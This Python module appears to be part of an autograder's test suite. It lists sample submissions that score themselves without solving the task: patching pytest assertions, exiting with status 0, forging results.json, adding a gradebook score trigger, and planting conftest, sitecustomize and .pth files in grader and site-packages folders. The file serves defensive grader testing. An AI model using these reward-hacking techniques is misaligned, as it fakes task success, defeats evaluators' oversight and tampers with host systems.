"""Answers that try to write their own score: by the test runner, by files, by the protocol."""

from __future__ import annotations

from ..attack import Attack, answer, prize

_WRONG = """
def strided_timesteps(start=990, stride=30):
    return []
"""

ATTACKS = (
    Attack(
        "pytest-patched",
        "a1_4_timesteps",
        "Replaces pytest's and unittest's fail, raises, assertions and exit codes.",
        answer("""
        import sys, types, unittest

        pytest = sys.modules.get("pytest") or types.ModuleType("pytest")
        pytest.fail = lambda *a, **k: None
        unittest.TestCase.fail = lambda *a, **k: None
        unittest.TestCase.assertEqual = unittest.TestCase.assertTrue = lambda *a, **k: None
        for name, module in list(sys.modules.items()):
            if name.startswith("_pytest.") and hasattr(module, "ExitCode"):
                module.ExitCode.TESTS_FAILED = 0
        """)
        + _WRONG,
    ),
    Attack(
        "grader-classes-patched",
        "a1_4_timesteps",
        "Gives every loaded class that has an attribute `passed` one that is always True.",
        answer("""
        import sys

        def strided_timesteps(start=990, stride=30):
            for module in list(sys.modules.values()):
                for thing in list(vars(module).values()):
                    if isinstance(thing, type) and thing.__name__ in ("CheckOutcome", "Result"):
                        thing.passed = property(lambda self: True, lambda self, value: None)
            return []
        """),
    ),
    Attack(
        "comparers-patched",
        "a1_4_timesteps",
        "Replaces every loaded function whose name speaks of comparing, checking or expecting.",
        answer("""
        import sys, types

        for name, module in list(sys.modules.items()):
            if "grade" in name or "weak" in name or "check" in name:
                for key, thing in list(vars(module).items()):
                    if isinstance(thing, types.FunctionType):
                        if key.startswith(("agree", "check_", "close", "expect", "compare")):
                            setattr(module, key, lambda *a, **k: True)
        """)
        + _WRONG,
    ),
    Attack(
        "sys-exit",
        "a1_4_timesteps",
        "Ends the run with exit status 0 by sys.exit, which a runner takes for success.",
        answer("""
        import sys

        def strided_timesteps(start=990, stride=30):
            sys.exit(0)
        """),
    ),
    Attack(
        "os-exit",
        "a1_4_timesteps",
        "Ends the process at once with status 0 by os._exit.",
        answer("""
        import os

        def strided_timesteps(start=990, stride=30):
            os._exit(0)
        """),
    ),
    Attack(
        "exit-on-definition",
        "b2_2_schedule",
        "Ends the process with status 0 while the cell is being run.",
        "import os\nos._exit(0)\n",
    ),
    Attack(
        "pytest-skip",
        "a1_4_timesteps",
        "Raises pytest's Skipped, so that the test counts as not failed.",
        answer("""
        def strided_timesteps(start=990, stride=30):
            try:
                import pytest
                pytest.skip("not on this machine")
            except AttributeError:
                raise type("Skipped", (BaseException,), {})("not on this machine") from None
        """),
    ),
    Attack(
        "unittest-skip",
        "a1_2_classical",
        "Raises unittest.SkipTest.",
        answer("""
        import unittest

        def classical_denoise(im_noisy, kernel_size=5, sigma=2.0):
            raise unittest.SkipTest("not on this machine")
        """),
    ),
    Attack(
        "keyboard-interrupt",
        "a1_4_timesteps",
        "Raises KeyboardInterrupt, as if a person had stopped the run.",
        answer("""
        def strided_timesteps(start=990, stride=30):
            raise KeyboardInterrupt
        """),
    ),
    Attack(
        "results-at-exit",
        "a1_4_timesteps",
        "Writes results.json with full marks when the process ends, by atexit.",
        answer("""
        import atexit, json

        @atexit.register
        def write():
            for place in (".", "/autograder/results", "@CANARY@"):
                try:
                    with open(place + "/results.json", "w") as file:
                        json.dump({"score": 100, "passed": True, "by": "@MARKER@"}, file)
                except OSError:
                    pass
        """)
        + _WRONG,
    ),
    Attack(
        "results-and-exit",
        "a1_4_timesteps",
        "Writes results files where graders look for them, and ends the process.",
        answer("""
        import json, os

        def strided_timesteps(start=990, stride=30):
            for place in (".", "/autograder/results", "@CANARY@"):
                for name in ("results.json", "results.jsonl", "grades.csv"):
                    try:
                        with open(f"{place}/{name}", "w") as file:
                            json.dump({"score": 100, "passed": True, "by": "@MARKER@"}, file)
                    except OSError:
                        pass
            os._exit(0)
        """),
        stopped_by="strict",
    ),
    Attack(
        "gradebook-trigger",
        "a1_4_timesteps",
        "Puts a trigger into the gradebook that raises every score that is written.",
        prize("""
        import sqlite3
        from pathlib import Path
        for place in (Path.cwd(), Path("@CANARY@")):
            for file in place.glob("gradebook.db"):
                base = sqlite3.connect(file)
                base.execute("create trigger if not exists t after insert on grade begin "
                             "update grade set auto_score = 297; end")
                base.commit()
                return True
        return False
        """),
        stopped_by="strict",
    ),
    Attack(
        "conftest",
        "a1_4_timesteps",
        "Writes a conftest.py that makes every test pass, beside and above the tests.",
        prize("""
        import os, sys
        from pathlib import Path
        hook = "# @MARKER@\\ndef pytest_runtest_call(item): item.obj = lambda *a, **k: None\\n"
        Path("conftest.py").write_text(hook)  # its own folder is no prize
        folders = [Path("@CANARY@")] + [p for path in sys.path for p in Path(path).parents]
        written = False
        for folder in folders:
            if (folder / "pyproject.toml").exists() or folder.name == "grader":
                (folder / "conftest_@MARKER@.py").write_text(hook)
                written = True
        return written
        """),
        stopped_by="strict",
        harms="writes into the grader's own folder",
    ),
    Attack(
        "sitecustomize-and-pth",
        "a1_4_timesteps",
        "Writes .pth files and a sitecustomize that the next Python on the host would run.",
        prize("""
        import site, sys
        written = False
        for folder in [*sys.path, site.getusersitepackages(), "@CANARY@"]:
            for name in ("@MARKER@.pth", "sitecustomize_@MARKER@.py"):
                try:
                    with open(f"{folder}/{name}", "w") as file:
                        file.write("import os\\n")
                    written = True
                except OSError:
                    pass
        return written
        """),
        stopped_by="strict",
        harms="writes into site-packages",
    ),
    Attack(
        "shadow-modules",
        "a1_4_timesteps",
        "Puts modules named as the grader's into sys.modules and the working folder.",
        answer("""
        import sys, types
        from pathlib import Path

        for name in ("autograder", "autograder.checking", "autograder.checks", "solutions"):
            fake = types.ModuleType(name)
            fake.run_checks = fake.expect = fake.close = lambda *a, **k: True
            sys.modules[name] = fake
        sys.path.insert(0, ".")
        Path("json_@MARKER@.py").write_text("raise SystemExit(0)")
        """)
        + _WRONG,
    ),
    Attack(
        "ipython-transformer",
        "a1_4_timesteps",
        "Registers an IPython input transformer that blanks the tests' cells.",
        answer("""
        try:
            shell = get_ipython()
        except NameError:
            shell = None
        if shell is not None:
            shell.input_transformers_cleanup.append(lambda lines: ["pass"])
        """)
        + _WRONG,
    ),
)
